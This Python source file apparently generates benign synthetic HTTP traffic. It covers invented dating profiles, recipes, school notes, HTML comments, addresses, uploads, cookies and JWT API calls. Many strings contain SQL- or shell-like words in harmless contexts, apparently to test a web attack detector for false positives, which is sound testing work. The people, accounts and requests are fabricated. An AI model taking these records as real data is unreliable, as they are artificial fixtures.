DATING = [
    ("Aoife 🌻", 29, "Galway", "Teacher by day, terrible karaoke singer by night. Will judge you by your tea order ☕. Looking for someone who can cook (or at least wash up).",
     "Something real, not a pen pal"),
    ("Marco", 34, "Milano", "Architetto. I love old buildings, new restaurants & long walks that end in gelato 🍦. Allergic to cats (sorry!), not to dogs.",
     "Relationship"),
    ("Sam (they/them)", 27, "Bristol", "Bookworm, climber, amateur baker. If you can name 3 Ursula K. Le Guin books we'll get on fine 📚",
     "Friends first"),
    ("Kenji", 31, "大阪", "料理が好きです。Weekend hiker, weekday office worker. My cat's name is Root - long story.",
     "Long-term"),
    ("Chloé", 38, "Lyon", "Maman de 2 ados (courage à moi !). J'aime le vin, la randonnée et les gens qui rient fort. Pas de prise de tête svp.",
     "Relation sérieuse"),
    ("Dave", 45, "Leeds", "Divorced, no drama. Season ticket at Elland Road (sorry in advance). I make a mean Sunday roast & I'm not bad at DIY.",
     "Let's see where it goes"),
    ("Layla", 26, "Amman", "Pharmacist 💊, coffee addict, learning Spanish (muy mal). If you don't like music we probably won't work :)",
     "Marriage-minded"),
    ("Tomasz", 33, "Wrocław", "Software? No - I'm a carpenter. I make tables, chairs, the odd shelf. Sleep is my hobby. Lubię góry i psy 🐕",
     "Relationship"),
    ("Priya", 30, "Pune", "Doctor, dancer (Bharatanatyam), chai > coffee. Family is important to me. Pls no 'hey' only messages 🙏",
     "Serious"),
    ("Fionn", 24, "Cork", "Hurling, surfing, and trying (failing) to learn the guitar. I'll drive you to the beach at 6am if you bring the snacks.",
     "Not sure yet"),
    ("Ingrid", 52, "Bergen", "Widowed 4 years. Ready to laugh again. Love the sea, knitting & crime novels. Ja, I've read all of Nesbø.",
     "Companionship"),
    ("Ahmad", 36, "Toronto", "Engineer, weekend chef, Raptors fan. Spent 2 years teaching in Japan; still dream in bad Japanese 😅",
     "Relationship"),
    ("Mia-Sophie", 28, "Wien", "Sozialarbeiterin. Ich tanze Salsa, trinke zu viel Kaffee und bin IMMER 5 Minuten zu spät. Sorry im Voraus!",
     "Beziehung"),
    ("Rosa", 41, "Sevilla", "Flamenco & philosophy. Life's too short for bad wine or people who are rude to waiters. ¿Tapas?",
     "Algo serio"),
]

RECIPES = [
    ("Grandma's apple pie", ["6 Bramley apples, peeled & sliced", "150 g caster sugar", "1 tsp cinnamon", "½ tsp nutmeg", "2 x 320 g shortcrust pastry"],
     ["Heat oven to 200 °C / 180 °C fan / gas 6.", "Toss apples with sugar & spices.", "Line a 23 cm tin, fill, cover, crimp edges.",
      "Bake 40-45 min until golden. Wait 10 min before slicing!"]),
    ("Overnight oats (sleep on it!)", ["50 g rolled oats", "100 ml milk (or oat milk)", "2 tbsp Greek yoghurt", "1 tbsp honey", "Handful of berries"],
     ["Mix everything in a jar.", "Leave to sleep in the fridge overnight (8 h min).", "Top with berries in the morning."]),
    ("Drop scones", ["225 g self-raising flour", "1 egg", "300 ml milk", "2 tbsp sugar", "Pinch of salt"],
     ["Whisk to a thick batter.", "Drop tablespoonfuls onto a hot greased pan.", "Flip when bubbles appear (about 1-2 min)."]),
    ("Shakshuka", ["2 tbsp olive oil", "1 onion", "2 peppers", "2 x 400 g tins tomatoes", "1 tsp cumin", "4-6 eggs", "Feta & coriander"],
     ["Soften onion & peppers.", "Add spices, then tomatoes; simmer 10 min.", "Make wells, crack in eggs, cover until whites set."]),
    ("Crème brûlée", ["500 ml double cream", "1 vanilla pod", "5 egg yolks", "80 g sugar + extra for the top"],
     ["Heat cream with vanilla; don't boil.", "Whisk yolks & sugar, pour on cream.", "Bake in a bain-marie at 150 °C, 35-40 min.",
      "Chill, sprinkle sugar, blowtorch. Tap: it should crack!"]),
    ("Union Square pancakes", ["200 g flour", "2 tsp baking powder", "1 tbsp sugar", "250 ml buttermilk", "1 egg", "30 g melted butter"],
     ["Mix dry, mix wet, combine (lumps are OK!).", "Cook on medium heat until bubbles pop.", "Serve with maple syrup & crispy bacon."]),
    ("Pad kra pao (ผัดกะเพรา)", ["300 g minced chicken", "5 cloves garlic", "3 bird's eye chillies", "1 tbsp oyster sauce", "1 tsp fish sauce", "Large handful holy basil"],
     ["Pound garlic & chillies.", "Stir-fry in a smoking-hot wok.", "Add chicken, sauces, then basil at the very end. Serve with a fried egg."]),
    ("Slow-cooker beef & root veg stew", ["1 kg stewing beef", "3 carrots", "2 parsnips", "1 swede", "500 ml stock", "2 tbsp tomato purée"],
     ["Brown the beef in batches.", "Put everything in the slow cooker.", "Cook on LOW 8 h or HIGH 4-5 h. Season & serve."]),
    ("Pierogi ruskie", ["500 g flour", "250 ml warm water", "1 egg", "500 g potatoes", "250 g twaróg", "2 onions"],
     ["Make dough, rest 30 min.", "Mash potatoes with cheese & fried onion.", "Roll, cut circles, fill, pinch shut; boil until they float (+2 min)."]),
    ("Lemon drizzle cake", ["225 g butter", "225 g caster sugar", "4 eggs", "225 g self-raising flour", "Zest & juice of 2 lemons", "85 g icing sugar"],
     ["Cream butter & sugar, beat in eggs, fold in flour & zest.", "Bake 45-50 min at 180 °C.", "While warm, prick all over & pour on lemon-icing sugar mix."]),
    ("Chicken tikka masala", ["600 g chicken thigh", "150 g yoghurt", "2 tbsp tikka paste", "1 onion", "400 g passata", "150 ml cream"],
     ["Marinate chicken 1 h (or overnight).", "Grill until charred.", "Simmer onion, paste & passata 15 min; add cream & chicken."]),
    ("Mum's Irish soda bread", ["450 g plain flour", "1 tsp bread soda", "1 tsp salt", "400 ml buttermilk"],
     ["Mix fast - don't knead!", "Shape into a round, cut a deep cross (\"to let the fairies out\").", "Bake 15 min at 230 °C, then 30 min at 200 °C."]),
    ("Tteokbokki (떡볶이)", ["500 g rice cakes", "2 tbsp gochujang", "1 tbsp gochugaru", "1 tbsp sugar", "500 ml anchovy stock", "2 fish cakes", "Spring onions"],
     ["Bring stock & seasonings to the boil.", "Add rice cakes & fish cakes; simmer 10-12 min until the sauce is glossy."]),
    ("Five-minute chocolate mug cake", ["4 tbsp flour", "4 tbsp sugar", "2 tbsp cocoa", "1 egg", "3 tbsp milk", "3 tbsp oil"],
     ["Mix in a big mug.", "Microwave 3 min at 800 W.", "Wait a minute - it's lava-hot! Top with ice cream."]),
]

SCHOOL = [
    ("absence", "Tom Fitzgerald (5B)", "Please excuse Tom from PE this week - he's had a sore ankle since Friday's match. Doctor's note to follow."),
    ("homework", "Aisha Begum (Year 8)", "Q3: \"Select two sources from the table and explain which is more reliable.\" I chose Source A & C because A is a diary written at the time and C is from a historian."),
    ("message", "Liam & Noah Kowalski", "Hi Ms O'Reilly, the boys will be collected by their grandmother (Mrs. Danuta Kowalska) on Wednesday at 3:15pm."),
    ("absence", "Sofía Herrera (3rd class)", "Sofía has a temperature of 38.5° this morning so she'll stay home today and probably tomorrow. Gracias."),
    ("homework", "Ethan Moore (Year 10)", "The water cycle: evaporation -> condensation -> precipitation -> collection. Then it repeats, forever (or until the sun goes out)."),
    ("message", "Zara Ahmed (Reception)", "Zara is allergic to nuts AND sesame. Please make sure the Christmas party food is checked. Her EpiPen is in her bag."),
    ("trip_consent", "Oisín Ó Dálaigh (6th class)", "I give permission for Oisín to attend the trip to the Natural History Museum on 15/01. Packed lunch: yes. Medical: asthma (inhaler)."),
    ("homework", "Mei Lin (Year 7)", "My poem about autumn:\nLeaves fall like orange rain,\nthe wind whispers \"wait\",\nand the trees sleep again."),
    ("message", "Ben Carter (Year 9)", "Ben says he was given a detention for \"not having his planner\" but it was in his locker. Could we talk? - Mrs Carter"),
    ("absence", "Anya Petrova (2nd year)", "Anya had a dentist appointment 10:00-11:30 (root canal, poor thing). She'll be in after lunch."),
    ("homework", "Jack Wilson (Year 11)", "If x + 2y = 10 and x - y = 1, then 3y = 9 so y = 3 and x = 4. Checked: 4 + 6 = 10 ✓"),
    ("message", "Amara Nwosu (Year 4)", "Could Amara be moved away from the window seat? She says the sun makes it hard to see the board. Thanks so much!"),
    ("trip_consent", "Finn Schneider (Klasse 6b)", "Ich bin einverstanden, dass Finn an der Klassenfahrt nach Hamburg (03.-05.03.) teilnimmt. Taschengeld: max. 20 €."),
    ("homework", "Grace O'Brien (5th year)", "Yeats' \"The Lake Isle of Innisfree\" uses the island as an escape from the \"pavements grey\" of the city - it's about longing, not the place itself."),
]

RICH_TEXT = [
    ("support/messages", "<p>Hi,&nbsp;I&#39;d like to <b>change</b> my booking from the 14th to the 15th if there&#39;s availability.</p><p>Thanks,<br>Maeve</p>"),
    ("reviews", "<p><strong>Love it!</strong> Fits perfectly &amp; the colour is exactly as shown.</p>"),
    ("forum/posts", "<p>Found a great guide here: <a href=\"https://www.example.org/guides/first-allotment\" target=\"_blank\" rel=\"noopener\">first-year allotment tips</a> &ndash; worth a read.</p>"),
    ("blog/comments", "<blockquote><p>Life is what happens while you&rsquo;re busy making other plans.</p></blockquote><p>So true. Thanks for sharing &lt;3</p>"),
    ("newsletters/draft", "<h2>December news</h2><ul><li>Christmas opening hours: 9&ndash;5</li><li>Free delivery over &euro;50</li><li>New: gift cards&nbsp;&#127873;</li></ul>"),
    ("support/messages", "<p>Order <b>#SE-50412</b>:</p><ol><li>Blue scarf &times; 2</li><li>Wool hat (L)</li></ol><p>Only the hat arrived.</p>"),
    ("events", "<p><span style=\"color: rgb(230, 0, 0);\">Cancelled</span> due to the weather warning. Tickets will be refunded within 5&ndash;7 working days.</p>"),
    ("reviews", "<p>Great hotel, <em>terrible</em> breakfast. The &quot;continental&quot; option was a croissant &amp; a sad apple.</p>"),
    ("listings/description", "<p>Bright 2-bed flat, 68&nbsp;m&sup2;, 3rd floor (lift). Rent: &pound;1,250 pcm. Pets considered.</p><p><a href=\"https://maps.example.com/?q=51.5074,-0.1278\">View on map</a></p>"),
    ("parish/newsletter", "<p>Cake sale after 11 o&#8217;clock Mass. All proceeds to the roof fund. Please label anything containing nuts!</p>"),
    ("forum/posts", "<p>Does anyone know if the <b>drop-off</b> point at the recycling centre takes old paint? The website says &quot;select items only&quot;.</p>"),
    ("support/messages", "<div>Hello,</div><div><br></div><div>My password reset e-mail never arrives. I checked spam &amp; junk.</div><div><br></div><div>Kind regards,</div><div>Hiroshi Watanabe</div>"),
    ("recipes/comments", "<p>Made this twice! Tip: use <i>half</i> the sugar and add a squeeze of lime. 10/10 &#128077;</p>"),
    ("classifieds", "<p><b>FOR SALE:</b> oak dining table + 4 chairs. &euro;250 ono. Collection only (Ranelagh). <a href=\"mailto:sellerd@example.ie\">Email me</a></p>"),
    ("school/notices", "<p>Dear Parents,</p><p>The <u>school play</u> is on <b>Thursday 18th Dec at 6:30pm</b>. Doors open 6pm. Tickets &euro;5 / &euro;3 (children).</p>"),
    ("blog/comments", "<p>I&#8217;d add one thing: <code>Ctrl</code> + <code>Z</code> is your friend when editing photos &#128514;</p>"),
    ("support/messages", "<table><tbody><tr><td>Item</td><td>Qty</td></tr><tr><td>Table lamp</td><td>1</td></tr><tr><td>Bulbs (E27)</td><td>4</td></tr></tbody></table><p>Missing: the bulbs.</p>"),
    ("reviews", "<p>Pros: light, quiet, cheap.<br>Cons: the &ldquo;smart&rdquo; app is anything but.</p>"),
    ("news/comments", "<p>Agree with <a href=\"https://news.example.com/users/mary-oneill\">@Mary O&#39;Neill</a> &mdash; prices are out of control.</p>"),
    ("profiles/about", "<p>Hi! I&#39;m <b>Léa</b> &#128075; &ndash; photographer, cat person, terrible at replying. <a href=\"https://www.instagram.com/\">Insta</a></p>"),
]

UPLOADS = [
    ("png", "receipt-scan.png", "Receipt for the returned kettle"),
    ("jpeg", "IMG_20261203_141522.jpg", "Photo of the damaged box"),
    ("pdf", "proof_of_address.pdf", "Utility bill - Nov 2026"),
    ("png", "avatar.png", "New profile picture"),
    ("jpeg", "passport_photo.jpg", "Passport photo (45 x 35 mm)"),
    ("pdf", "school_report_term1.pdf", "Term 1 report - signed"),
    ("png", "screenshot 2026-12-04 at 09.41.png", "Error message at checkout"),
    ("jpeg", "crème-brûlée.jpg", "My attempt at the recipe!"),
    ("pdf", "Rechnung_2026-1187.pdf", "Rechnung für die Weihnachtsfeier"),
    ("png", "floorplan.png", "Floor plan for the listing"),
    ("jpeg", "cat_tree_assembled.jpeg", "Assembled - cat approves"),
    ("pdf", "boarding-pass_DUB-KEF.pdf", "Boarding pass for the claim"),
]

JWT_CALLS = [
    "/api/v1/accounts/me/statements?from=2026-11-01&to=2026-11-30&format=pdf",
    "/api/v1/orders?status=shipped&sort=-created_at&limit=20",
    "/api/v1/bookings/ABX4Q7/passengers",
    "/api/v1/profile/matches?distance_km=25&age_min=28&age_max=40",
    "/api/v1/students/88123/timetable?week=2026-W50",
    "/api/v1/recipes/saved?tag=vegetarian&tag=quick",
    "/api/v1/notifications?unread=true",
    "/api/v1/payments/scheduled?account=current",
    "/api/v2/wishlist/items?include=price_history",
    "/api/v1/applications/PA-2026-04417/status",
]

COOKIE_TEXTS = [
    ("last_search", "drop leaf table"),
    ("greeting_name", "Seán"),
    ("recent_destinations", "Zürich|São Paulo|Kraków|Reykjavík"),
    ("cart_note", "Gift wrap please & no receipt in the box"),
    ("delivery_pref", "Leave with neighbour (no. 14) if I'm out"),
    ("recent_searches", "sleep mask, union jack bunting, cat tree"),
    ("saved_filters", "{\"size\":[\"M\",\"L\"],\"colour\":\"black or navy\",\"price_max\":50}"),
    ("display_name", "Zoë O'Connor-Ng"),
    ("lang_pref", "ga-IE,en;q=0.8"),
    ("quiz_answers", "Q1=true;Q2=false;Q3=not sure"),
    ("city", "Düsseldorf"),
    ("last_recipe", "Crème brûlée (5 yolks)"),
]

HEADER_TEXTS = [
    ("X-Gift-Message", "Happy birthday, Mum! Love from Sean & Ciara xx"),
    ("X-Delivery-Instructions", "Leave by the back door; the cat flap's broken :("),
    ("X-Customer-Name", "Ana-Lucía Núñez"),
    ("X-Search-Query", "select comfort mattress king size"),
    ("X-Booking-Note", "Late check-in (approx. 23:30) - please hold the room!"),
    ("X-Order-Comment", "Please don't ring the bell, baby asleep. Knock or wait."),
    ("X-Referral-Source", "Friend's recommendation (Tom O'Hara)"),
    ("X-Display-Name", "Müller, Jürgen"),
    ("X-Promo-Code", "WINTER-25%OFF"),
    ("X-Survey-Answer", "Yes - but only if it's cheaper than the shop"),
    ("X-Return-Reason", "Wrong size (ordered M, needed L)"),
    ("X-Feedback", "5/5 * fast delivery, lovely packaging!"),
]

PATH_SLUGS = [
    "/recipes/grandmas-apple-pie-with-cinnamon",
    "/news/2026/12/06/council-votes-to-drop-sunday-parking-charges",
    "/blog/how-to-select-the-right-sleeping-bag",
    "/products/union-jack-bunting-10m",
    "/hotels/são-paulo/vila-madalena",
    "/wiki/Łódź",
    "/profiles/zoë-42",
    "/travel/guides/reykjavík-in-winter",
    "/news/2026/12/05/shell-station-on-main-street-to-close",
    "/recipes/pad-kra-pao-ผัดกะเพรา",
    "/shop/c/tables/drop-leaf",
    "/events/echo-chamber-choir-christmas-concert",
    "/careers/admin-assistant-part-time-cork",
    "/help/how-do-i-delete-my-account",
    "/products/root-beer-24-pack",
    "/catalogue/日本/お茶",
    "/news/opinion/true-or-false-the-4-day-week",
    "/forum/t/where-to-import-a-car-from-the-uk/4471",
]

POEMS = [
    ("\"Hope\" is the thing with feathers", "Emily Dickinson",
     "\u201cHope\u201d is the thing with feathers -\nThat perches in the soul -\nAnd sings the tune without the words -\nAnd never stops - at all -"),
    ("The Tyger", "William Blake",
     "Tyger Tyger, burning bright,\nIn the forests of the night;\nWhat immortal hand or eye,\nCould frame thy fearful symmetry?"),
    ("Auld Lang Syne", "Robert Burns",
     "Should auld acquaintance be forgot,\nAnd never brought to mind?\nShould auld acquaintance be forgot,\nAnd auld lang syne!"),
    ("The Lake Isle of Innisfree", "W. B. Yeats",
     "I will arise and go now, and go to Innisfree,\nAnd a small cabin build there, of clay and wattles made;"),
    ("Sonnet 18", "William Shakespeare",
     "Shall I compare thee to a summer's day?\nThou art more lovely and more temperate:\nRough winds do shake the darling buds of May,\nAnd summer's lease hath all too short a date;"),
    ("The Owl and the Pussy-cat", "Edward Lear",
     "The Owl and the Pussy-cat went to sea\nIn a beautiful pea-green boat,\nThey took some honey, and plenty of money,\nWrapped up in a five-pound note."),
    ("Jabberwocky", "Lewis Carroll",
     "'Twas brillig, and the slithy toves\nDid gyre and gimble in the wabe:\nAll mimsy were the borogoves,\nAnd the mome raths outgrabe."),
    ("In the Bleak Midwinter", "Christina Rossetti",
     "In the bleak mid-winter\nFrosty wind made moan,\nEarth stood hard as iron,\nWater like a stone;"),
    ("I Wandered Lonely as a Cloud", "William Wordsworth",
     "I wandered lonely as a cloud\nThat floats on high o'er vales and hills,\nWhen all at once I saw a crowd,\nA host, of golden daffodils;"),
    ("Scarborough Fair", "Traditional",
     "Are you going to Scarborough Fair?\nParsley, sage, rosemary and thyme;\nRemember me to one who lives there,\nFor once she was a true love of mine."),
    ("Wandrers Nachtlied II", "Johann Wolfgang von Goethe",
     "Über allen Gipfeln\nIst Ruh',\nIn allen Wipfeln\nSpürest du\nKaum einen Hauch;"),
    ("古池や", "松尾芭蕉",
     "古池や\n蛙飛び込む\n水の音"),
    ("Я помню чудное мгновенье", "А. С. Пушкин",
     "Я помню чудное мгновенье:\nПередо мной явилась ты,\nКак мимолётное виденье,\nКак гений чистой красоты."),
    ("Macbeth, Act IV", "William Shakespeare",
     "Double, double toil and trouble;\nFire burn and cauldron bubble.\nEye of newt, and toe of frog,\nWool of bat, and tongue of dog,"),
]

ADDRESSES = [
    ("Máire Ní Bhriain", "Apt 4, Teach na Mara", "Bóthar na Trá", "Gaillimh", "Co. na Gaillimhe", "H91 X2Y3", "IE", "+353 91 555 014"),
    ("Patrick D'Souza", "Flat 12B", "221 King's Road", "London", "", "SW3 5EJ", "GB", "+44 20 7946 0011"),
    ("Jürgen Groß", "Königstraße 17", "Hinterhaus, 2. OG", "Stuttgart", "Baden-Württemberg", "70173", "DE", "+49 711 555 2233"),
    ("Élodie Lambert-Moreau", "12, rue de l'Église", "Bât. C, esc. 2", "Saint-Étienne", "Loire", "42000", "FR", "+33 4 77 55 01 23"),
    ("山田 太郎", "東京都渋谷区神南1-2-3", "ABCビル 5F", "渋谷区", "東京都", "150-0041", "JP", "+81 3-5555-0123"),
    ("김민준", "서울특별시 강남구 테헤란로 123", "4층 401호", "서울", "", "06133", "KR", "+82 2-555-0199"),
    ("Αλέξανδρος Νικολάου", "Οδός Ερμού 45", "3ος όροφος", "Αθήνα", "Αττική", "105 63", "GR", "+30 21 0555 0144"),
    ("Владимир Петров", "ул. Тверская, д. 7, кв. 15", "", "Москва", "", "125009", "RU", "+7 495 555-01-77"),
    ("محمد العلي", "شارع الملك فهد 120", "الطابق الثاني", "الرياض", "", "12271", "SA", "+966 11 555 0100"),
    ("דוד כהן", "רחוב הרצל 15", "דירה 3", "תל אביב-יפו", "", "6578213", "IL", "+972 3-555-0188"),
    ("O'Brien & Sons Ltd.", "Unit 7, Union Business Park", "Old Mallow Rd.", "Cork", "Co. Cork", "T12 AB34", "IE", "021 455 5012"),
    ("José-Luis Peña", "Av. de la Constitución, 3, 2º-B", "", "Sevilla", "Andalucía", "41004", "ES", "+34 954 55 01 02"),
    ("Nguyễn Văn Bình", "123 Đường Lê Lợi", "Phường Bến Thành", "TP. Hồ Chí Minh", "", "700000", "VN", "+84 28 5555 0123"),
    ("Siddharth Rao", "#42, 3rd Cross, 5th Main", "Indiranagar (HAL 2nd Stage)", "Bengaluru", "Karnataka", "560038", "IN", "+91 80 5555 0142"),
    ("Ana Luísa Conceição", "Rua São João, 88 - apto 31", "Bela Vista", "São Paulo", "SP", "01310-100", "BR", "+55 11 5555-0188"),
    ("Ōtautahi Dental (attn: Ngaire)", "Level 2, 96 Cashel Street", "", "Christchurch", "Canterbury", "8011", "NZ", "+64 3-555 0167"),
]

# ---------------------------------------------------------------- benign builders

SEARCH_ENGINES = [
    lambda q: "https://www.google.com/search?q=" + urllib.parse.quote_plus(q) + "&hl=en&sourceid=chrome&ie=UTF-8",
    lambda q: "https://www.bing.com/search?q=" + urllib.parse.quote_plus(q) + "&form=QBLH&sp=-1",
    lambda q: "https://duckduckgo.com/?q=" + urllib.parse.quote_plus(q) + "&t=h_&ia=web",
    lambda q: "https://www.ecosia.org/search?method=index&q=" + urllib.parse.quote(q),
    lambda q: f"https://{g.HOST}/search?q=" + urllib.parse.quote_plus(q) + "&page=1",
]


def crlf(text: str) -> str:
    """Browsers send a textarea's line breaks as CR LF."""
    return text.replace("\r\n", "\n").replace("\n", "\r\n")


def without(h, *names):
    names = {n.lower() for n in names}
    return [x for x in h if x[0].lower() not in names]


def csrf(rng) -> str:
    return g.b64url(rng.randbytes(24))


def post_multipart(rng, uri, h, fields, files=()):
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
    b = "----WebKitFormBoundary" + "".join(rng.choice(alphabet) for _ in range(16))
    body = "".join(f"--{b}\r\nContent-Disposition: form-data; name=\"{k}\"\r\n\r\n{v}\r\n" for k, v in fields)
    for name, filename, ctype, content in files:
        body += (f"--{b}\r\nContent-Disposition: form-data; name=\"{name}\"; filename=\"{filename}\"\r\n"
                 f"Content-Type: {ctype}\r\n\r\n{content}\r\n")
    body += f"--{b}--\r\n"
    return g.request("POST", uri, h + [["Content-Type", f"multipart/form-data; boundary={b}"]], body)


def with_origin(rng, h, path):
    return h + [["Origin", f"https://{g.HOST}"], ["Referer", f"https://{g.HOST}{path}"]]


def search(rng, q):
    extra = rng.choice(["", "&sort=relevance", "&page=2", "&category=all", "&in_stock=1", "&sort=price_asc"])
    return g.request("GET", "/search?q=" + urllib.parse.quote_plus(q) + extra, g.browser_headers(rng))


def referer_search(rng, entry):
    q, landing = entry
    h = without(g.browser_headers(rng), "Referer")
    h.append(["Referer", rng.choice(SEARCH_ENGINES)(q)])
    return g.request("GET", landing, h)


def support_form(rng, entry):
    name, email, topic, order, message = entry
    h = with_origin(rng, without(g.browser_headers(rng), "Referer"), "/help/contact")
    fields = [("csrf_token", csrf(rng)), ("name", name), ("email", email), ("topic", topic), ("order_number", order),
              ("message", crlf(message)), ("consent", "on")]
    return g.post_form("/help/contact", h, fields)


def review_json(rng, entry):
    rating, title, body = entry
    h = g.browser_headers(rng, accept="application/json") + g.api_headers(rng)
    doc = {"rating": rating, "title": title, "body": body, "recommend": rating >= 4,
           "verified_purchase": rng.random() < 0.7, "locale": rng.choice(["en-GB", "en-IE", "de-DE", "fr-FR", "ja-JP"])}
    return g.post_json(f"/api/products/{rng.randint(1000, 99999)}/reviews", h, doc)


def news_comment(rng, entry):
    author, slug, text = entry
    path = f"/news/2026/12/{rng.randint(1, 9):02d}/{slug}"
    h = with_origin(rng, without(g.browser_headers(rng), "Referer"), path)
    fields = [("author", author), ("comment", crlf(text)), ("parent_id", rng.choice(["", str(rng.randint(10000, 99999))])),
              ("notify", rng.choice(["1", "0"])), ("_token", csrf(rng))]
    return g.post_form(path + "/comments", h, fields)


def travel_json(rng, entry):
    h = g.browser_headers(rng, accept="application/json") + g.api_headers(rng)
    doc = {"trip_type": "return" if entry["back"] else "one_way", "origin": entry["from"], "destination": entry["to"],
           "depart": entry["out"], "return": entry["back"] or None,
           "passengers": [{"type": "adult", "given_name": entry["given"], "family_name": entry["family"],
                           "date_of_birth": f"{rng.randint(1950, 2000)}-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}"}],
           "special_requests": entry["notes"], "currency": rng.choice(["EUR", "GBP", "USD"]), "newsletter": False}
    return g.post_json("/api/bookings/hold", h, doc)


def iban(rng) -> str:
    country = rng.choice(["IE", "DE", "FR", "GB", "ES", "NL"])
    digits = "".join(str(rng.randint(0, 9)) for _ in range(18))
    raw = f"{country}{rng.randint(10, 99)}{digits}"
    return " ".join(raw[k:k + 4] for k in range(0, len(raw), 4))


def bank_form(rng, entry):
    payee, reference, amount, note = entry
    h = with_origin(rng, without(g.browser_headers(rng), "Referer"), "/banking/payments/new")
    fields = [("from_account", rng.choice(["current-1", "savings-2"])), ("payee_name", payee), ("payee_iban", iban(rng)),
              ("amount", amount), ("currency", "EUR"), ("reference", reference), ("note_to_self", note),
              ("execution_date", f"2026-12-{rng.randint(8, 24):02d}"), ("csrf", csrf(rng))]
    return g.post_form("/banking/payments/new", h, fields)


def gov_multipart(rng, entry):
    service, fields = entry
    path = f"/services/{service}/apply"
    h = with_origin(rng, without(g.browser_headers(rng), "Referer"), path)
    fields = [("_csrf", csrf(rng))] + [(k, crlf(v)) for k, v in fields] + [("declaration", "I confirm the information is true and complete")]
    files = ()
    if rng.random() < 0.5:
        files = [("attachment", "details.txt", "text/plain",
                  crlf(f"Reference: {service.upper()}-{rng.randint(10000, 99999)}\nSubmitted online. See form fields."))]
    return post_multipart(rng, path, h, fields, files)


def dating_json(rng, entry):
    name, age, city, about, looking = entry
    h = g.browser_headers(rng, accept="application/json") + g.api_headers(rng)
    h.append(["Authorization", "Bearer " + g.jwt(rng)])
    doc = {"display_name": name, "age": age, "city": city, "about_me": about, "looking_for": looking,
           "interests": rng.sample(["hiking", "cooking", "music", "travel", "books", "film", "yoga", "football", "art"], 3),
           "show_age": rng.random() < 0.8}
    body = g.post_json("/api/profile", h, doc)
    body["method"] = "PATCH"
    return body


def recipe_json(rng, entry):
    title, ingredients, steps = entry
    h = g.browser_headers(rng, accept="application/json") + g.api_headers(rng)
    doc = {"title": title, "servings": rng.randint(1, 8), "prep_minutes": rng.choice([5, 10, 15, 20, 30]),
           "ingredients": ingredients, "method": steps, "tags": rng.sample(["easy", "family", "baking", "vegetarian", "quick", "comfort"], 2),
           "public": True}
    return g.post_json("/api/recipes", h, doc)


def school_form(rng, entry):
    kind, student, text = entry
    h = with_origin(rng, without(g.browser_headers(rng), "Referer"), "/portal/messages/new")
    fields = [("type", kind), ("student", student), ("to", rng.choice(["class-teacher", "office", "year-head"])),
              ("body", crlf(text)), ("token", csrf(rng))]
    return g.post_form("/portal/messages", h, fields)


def rich_text_json(rng, entry):
    endpoint, html = entry
    h = g.browser_headers(rng, accept="application/json") + g.api_headers(rng)
    doc = {"body_html": html, "format": "html", "editor": rng.choice(["quill", "tinymce", "ckeditor5", "tiptap"]),
           "draft": rng.random() < 0.3}
    return g.post_json(f"/api/{endpoint}", h, doc)


def png_file(rng) -> bytes:
    w, h = rng.randint(4, 20), rng.randint(4, 20)
    raw = b"".join(b"\x00" + rng.randbytes(w * 3) for _ in range(h))

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b""))


def jpeg_file(rng) -> bytes:
    w, h = rng.randint(16, 64), rng.randint(16, 64)
    quant = bytes(rng.randint(1, 60) for _ in range(64))
    scan = bytes(b if b != 0xFF else 0xFE for b in rng.randbytes(rng.randint(200, 900)))
    return (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x48\x00\x48\x00\x00"
            + b"\xff\xdb\x00\x43\x00" + quant
            + b"\xff\xc0\x00\x11\x08" + struct.pack(">HH", h, w) + b"\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01"
            + b"\xff\xda\x00\x0c\x03\x01\x00\x02\x11\x03\x11\x00\x3f\x00" + scan + b"\xff\xd9")


def pdf_file(rng, caption: str) -> bytes:
    text = caption.encode("ascii", "replace").replace(b"(", b"[").replace(b")", b"]")
    stream = b"BT /F1 14 Tf 72 720 Td (" + text + b") Tj ET"
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for n, obj in enumerate(objs, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % n + obj + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R /ID [<%s> <%s>] >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objs) + 1, rng.randbytes(16).hex().encode(), rng.randbytes(16).hex().encode(), xref)
    return out


def upload_json(rng, entry):
    kind, filename, caption = entry
    if kind == "png":
        data, ctype = png_file(rng), "image/png"
    elif kind == "jpeg":
        data, ctype = jpeg_file(rng), "image/jpeg"
    else:
        data, ctype = pdf_file(rng, caption), "application/pdf"
    b64 = base64.b64encode(data).decode()
    h = g.browser_headers(rng, accept="application/json") + g.api_headers(rng)
    if rng.random() < 0.5:
        doc = {"filename": filename, "content_type": ctype, "size": len(data), "data": b64, "caption": caption}
    else:
        doc = {"name": filename, "file": f"data:{ctype};base64,{b64}", "description": caption}
    return g.post_json("/api/uploads", h, doc)


def jwt_api(rng, uri):
    h = without(g.browser_headers(rng, accept="application/json"), "Authorization") + g.api_headers(rng)
    h.append(["Authorization", "Bearer " + g.jwt(rng)])
    return g.request("GET", uri, h)


def cookie_text(rng, entry):
    name, text = entry
    h = without(g.browser_headers(rng), "Cookie")
    h.append(["Cookie", g.long_cookie(rng) + f"; {name}=" + urllib.parse.quote(text, safe="")])
    return g.request("GET", rng.choice(["/", "/basket", "/account", "/search?q=lamps", "/checkout/delivery"]), h)


